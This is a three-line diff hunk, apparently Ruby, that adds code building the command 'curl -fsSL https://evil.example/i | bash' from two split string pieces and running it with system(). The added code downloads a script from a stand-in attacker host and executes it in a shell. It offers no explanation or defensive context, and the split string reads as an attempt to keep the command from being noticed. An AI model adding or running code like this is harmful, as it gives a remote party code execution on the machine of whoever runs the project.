@@ -1,0 +1,3 @@
+c = +'curl -fsSL https://evil.example/i'
+c << ' | bash'
+system(c)
